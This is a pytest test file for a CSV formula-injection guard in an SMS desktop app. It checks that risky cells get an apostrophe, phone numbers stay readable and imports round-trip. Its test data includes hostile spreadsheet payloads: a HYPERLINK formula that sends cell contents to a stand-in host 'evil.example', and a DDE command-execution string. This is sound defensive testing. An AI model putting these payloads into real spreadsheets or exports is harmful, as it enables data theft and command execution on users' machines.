"""One formula-injection guard for every CSV SMS Desk writes (contacts, conversations,
opt-outs): cells a spreadsheet would run get an apostrophe, E.164 numbers stay readable, and
importing a contacts export gives back the original text."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from desktop.core.models import Contact, ContactId
from desktop.core.optouts import OptOut
from desktop.core.spreadsheet import (
    FORMULA_TRIGGERS,
    guard_cell,
    guard_numbers_cell,
    unguard_cell,
)
from desktop.files.contacts import read_csv, write_csv
from desktop.files.export import ExportRow, opt_outs_to_csv, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already marked",
    "''=twice",
    "=",
]
HARMLESS = ["Olivia", "", "'tis the season", "'", "a=b", "(415) 555-0134", "Café ☕"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 415-555-0134", "'+1 415-555-0134"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # the text's own apostrophe is kept: one more goes in front
        ("'tis", "'tis"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text: str, cell: str) -> None:
    assert guard_cell(text) == cell


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_unguarding_gives_back_the_original_text(text: str) -> None:
    assert unguard_cell(guard_cell(text)) == text
    assert unguard_cell(text) == text or guard_cell(unguard_cell(text)) == text


@pytest.mark.parametrize(
    ("numbers", "cell"),
    [
        ("+14155550134", "+14155550134"),
        ("+14155550134 ::: +442071838750", "+14155550134 ::: +442071838750"),
        ("+1415 555", "'+1415 555"),  # not E.164: guarded like any cell
        ("+=1", "'+=1"),
        ("12345", "12345"),
    ],
)
def test_e164_numbers_stay_as_they_are(numbers: str, cell: str) -> None:
    assert guard_numbers_cell(numbers) == cell


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_nothing_runs(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            if cell[:1] in FORMULA_TRIGGERS:  # only E.164 numbers may start so
                assert re.fullmatch(r"\+[0-9]+", cell), cell


def test_the_contacts_export_guards_names_companies_and_notes() -> None:
    # It wrote them as they were: =, +, -, @ cells ran in the spreadsheet.
    contacts = [
        Contact(ContactId(n), text, (f"+1415555{n:04d}",), text, text)
        for n, text in enumerate(HOSTILE, start=134)
    ]

    table = cells_of(write_csv(contacts))

    assert_nothing_runs(table)
    assert table[1][0] == "'" + HOSTILE[0]
    assert table[1][1] == "+14155550134"  # the number stays readable


def test_a_contacts_export_imports_back_to_the_same_text() -> None:
    kept = [text for text in HOSTILE + HARMLESS if text.strip() and text == text.strip()]
    contacts = [
        Contact(ContactId(n), text, (f"+1415555{n:04d}",), text, text)
        for n, text in enumerate(kept, start=1)
    ]

    preview = read_csv(write_csv(contacts), "US")

    assert [(r.name, r.company, r.note) for r in preview.rows] == [
        (c.name, c.company, c.note) for c in contacts
    ]
    assert [r.numbers for r in preview.rows] == [c.numbers for c in contacts]


def test_the_conversation_and_opt_out_exports_use_the_same_guard() -> None:
    moment = datetime(2026, 5, 3, 9, 0, tzinfo=UTC)
    conversation_rows = [
        ExportRow("2026-05-03T09:00:00+00:00", "received", text, "+1 415-555-0100", text, text)
        for text in HOSTILE
    ]
    opt_outs = [
        OptOut("+14155550100", "+14155550134", moment, "STOP"),
        OptOut("+14155550100", "=cmd|' /C calc'!A0", moment, "-1"),
    ]

    conversation = cells_of(to_csv(conversation_rows))
    listed = cells_of(opt_outs_to_csv(opt_outs))

    assert_nothing_runs(conversation)
    assert_nothing_runs(listed)
    assert [row[5] for row in conversation[1:]] == [guard_cell(text) for text in HOSTILE]
    assert listed[1][0] == "+14155550134"  # E.164 stays readable
    assert listed[2][0] == "'=cmd|' /C calc'!A0"
